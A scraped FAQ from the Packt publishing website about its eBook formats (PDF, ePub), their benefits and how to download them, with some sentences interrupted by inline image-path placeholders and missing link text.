  • If you experience a problem with using or installing AdobeReader, the contact Adobe directly.
  • To view the errata for the book, see and view the pages for the title you have.
  • To view your account details or to download a new copy of the book go to
  • To contact us directly if a problem is not resolved, use
What eBook formats do Packt support? Chevron down icon Chevron up icon

Our eBooks are currently available in a variety of formats such as PDF and ePubs. In the future, this may well change with trends and development in technology, but please note that our PDFs are not Adobe eBook Reader format, which has greater restrictions on security.

You will need to use Adobe Reader v9 or later in order to read Packt's PDF eBooks.

What are the benefits of eBooks? Chevron down icon Chevron up icon
  • You can get the information you need immediately
  • You can easily take them with you on a laptop
  • You can download them an unlimited number of times
  • You can print them out
  • They are copy-paste enabled
  • They are searchable
  • There is no password protection
  • They are lower price than print
  • They save resources and space
What is an eBook? Chevron down icon Chevron up icon

Packt eBooks are a complete electronic version of the print edition, available in PDF and ePub formats. Every piece of content down to the page numbering is the same. Because we save the costs of printing and shipping the book to you, we are able to offer eBooks at a lower cost than print editions.

When you have purchased an eBook, simply login to your account and click onthe link in Your Download Area. We recommend you saving the file to your hard drive before opening it.

For optimalviewing of our eBooks, we recommend you download and install the free Adobe Reader version 9.